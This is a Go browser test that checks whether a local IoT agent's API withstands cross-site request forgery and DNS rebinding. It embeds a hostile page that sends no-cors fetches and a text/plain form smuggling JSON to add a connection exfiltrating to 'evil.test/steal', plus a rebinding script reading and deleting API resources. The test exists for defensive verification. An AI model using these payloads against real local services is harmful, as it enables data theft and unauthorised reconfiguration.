package browser

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"edgeflow/internal/testkit"
)

// The attacks of a web page on another site against an agent on the
// defaults (API on loopback, no token), in a real browser: Chromium maps
// evil.test and rebind.test to 127.0.0.1, as DNS would for a page whose
// server, or whose rebound name, is the agent's machine.

var mapNames = chromedp.Flag("host-resolver-rules", "MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.1")

// attackConfig is an agent with one device and one connection.
func attackConfig(ep string, d device) string {
	return agentConfig("127.0.0.1:0", "", nil, []string{
		fmt.Sprintf(`{"name":"Cloud","connectorId":"actility-http-iot","configuration":{"destinationURL":%q,"headers":{"Authorization":"Bearer KEEP-ME"}}}`, ep+"/cloud"),
	}, d)
}

// configFile is the agent's configuration file (startAgent writes it in
// a temporary directory of its own, which the log names).
func configFile(t *testing.T, ag *testkit.Agent) string {
	t.Helper()
	for _, f := range strings.Fields(ag.Log()) {
		if p, ok := strings.CutPrefix(f, "config="); ok && strings.HasSuffix(p, ".yaml") {
			return p
		}
	}
	t.Fatal("the agent's log does not name its configuration file")
	return ""
}

func logged(a *testkit.Agent, s string) bool { return strings.Contains(a.Log(), s) }

// TestCrossSiteAttacksFail: a page on another origin sends what it can
// send without the browser asking the agent first: a no-cors fetch with a
// text/plain JSON body (a new connection, a dead-letter replay) and an
// enctype=text/plain form whose one field spells the same JSON. Each
// reaches the agent and is refused; nothing changes.
func TestCrossSiteAttacksFail(t *testing.T) {
	chromium(t)
	ep := testkit.NewSink(t)
	d := newDevice(7, "Pump")
	ag := testkit.StartAgent(t, attackConfig(ep.URL, d))
	cfgPath := configFile(t, ag)
	before, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(ag.API)
	target := "http://127.0.0.1:" + port
	evil := `{"name":"Evil","connectorId":"actility-http-iot","configuration":{"destinationURL":"http://evil.test/steal"}}`
	// The form's one field: name + "=" + value is a JSON body.
	formName := `{"name":"Evil form","connectorId":"actility-http-iot","configuration":{"destinationURL":"http://evil.test/steal?x`
	page := fmt.Sprintf(`<!doctype html><title>cat pictures</title>
<iframe name=sink></iframe>
<form id=f method=POST enctype="text/plain" action=%q target=sink><input name='%s' value='"}}'></form>
<script>
window.results = [];
const api = %q;
const send = (path, body) => fetch(api + path, {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body})
  .then(() => 'sent', e => 'error ' + e);
Promise.all([send('/connections', %q), send('/connections/cloud/deadletters/replay', '{}')]).then(r => {
  window.results = r;
  document.getElementById('f').submit();
});
</script>`, target+"/connections", formName, target, evil)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(page))
	}))
	t.Cleanup(attacker.Close)
	_, aport, _ := net.SplitHostPort(strings.TrimPrefix(attacker.URL, "http://"))

	b := newBrowser(t, "http://evil.test:"+aport, mapNames)
	b.do("open the attacker's page", chromedp.Navigate(b.base+"/"))
	b.wait("the fetches to be sent", `window.results.length === 2`)
	if got := evalJS[[]string](b, `window.results`); got[0] != "sent" || got[1] != "sent" {
		t.Fatalf("the browser did not send the fetches: %v", got)
	}
	// The refusals are logged once per interval: the first proves the
	// requests reached the agent; the form lands in the iframe.
	const refused, created = "refused a change sent from another web site", "connection created through the API"
	testkit.WaitUntil(t, "the cross-site requests to reach the agent", func() bool {
		return logged(ag, refused) || logged(ag, created)
	})
	b.wait("the form's answer", `(() => { try { return !!frames[0].document.body; } catch (e) { return true; } })()`)
	time.Sleep(500 * time.Millisecond) // the form's POST is in flight in another process; nothing tells the page when the agent handled it

	var conns []connection
	apiGet(t, ag.API, "/connections", "", &conns)
	if len(conns) != 1 || conns[0].Name != "Cloud" {
		t.Fatalf("after the attacks the agent has connections %+v", conns)
	}
	after, _ := os.ReadFile(cfgPath)
	if string(after) != string(before) {
		t.Fatalf("the attacks changed the configuration file:\n%s", after)
	}
	if !logged(ag, refused) {
		t.Fatal("the agent saw no cross-site change: the test did not attack")
	}
}

// TestDNSRebindingFails: a page whose name now resolves to 127.0.0.1 is,
// to the browser, same-origin with the agent on that name: it can read
// what the agent answers. The agent answers nothing to a name that is not
// its own; on its own names the page works.
func TestDNSRebindingFails(t *testing.T) {
	chromium(t)
	ep := testkit.NewSink(t)
	d := newDevice(8, "Boiler")
	ag := testkit.StartAgent(t, attackConfig(ep.URL, d))
	cfgPath := configFile(t, ag)
	before, _ := os.ReadFile(cfgPath)
	_, port, _ := net.SplitHostPort(ag.API)

	b := newBrowser(t, "http://rebind.test:"+port, mapNames)
	b.do("open the rebound name", chromedp.Navigate(b.base+"/"))
	js := `(async () => {
  const out = {};
  for (const [m, p, body] of [['GET', '/connections'], ['GET', '/devices'], ['GET', '/status'], ['GET', '/events'],
      ['PUT', '/connections/cloud', '{"name":"Cloud","connectorId":"actility-http-iot","configuration":{"destinationURL":"http://rebind.test/x"}}'],
      ['DELETE', '/connections/cloud']]) {
    const r = await fetch(p, {method: m, headers: body ? {'Content-Type': 'application/json'} : {}, body});
    // The event stream never ends: its status tells enough.
    out[m + ' ' + p] = r.status + ' ' + (p === '/events' ? '' : (await r.text()).slice(0, 200));
  }
  return JSON.stringify(out);
})()`
	got, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](js, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	var open []string
	for _, what := range []string{"GET /connections", "GET /devices", "GET /status", "GET /events", "PUT /connections/cloud", "DELETE /connections/cloud"} {
		if !strings.Contains(got, `"`+what+`":"421 `) {
			open = append(open, what)
		}
	}
	if len(open) > 0 {
		t.Errorf("not refused to the rebound page: %s\n%.600s", strings.Join(open, ", "), got)
	}
	if strings.Contains(got, "Cloud") || strings.Contains(got, "Boiler") {
		t.Errorf("the rebound page read the agent's data: %s", got)
	}
	after, _ := os.ReadFile(cfgPath)
	if string(after) != string(before) {
		t.Fatal("the rebound page changed the configuration file")
	}

	// The page itself, on the agent's own names, still works.
	for _, base := range []string{"http://localhost:" + port, "http://127.0.0.1:" + port} {
		b.do("open "+base, chromedp.Navigate(base+"/#/connections"))
		b.wait("the connection list at "+base, `document.querySelectorAll('#connections tbody tr').length === 1`)
	}
}
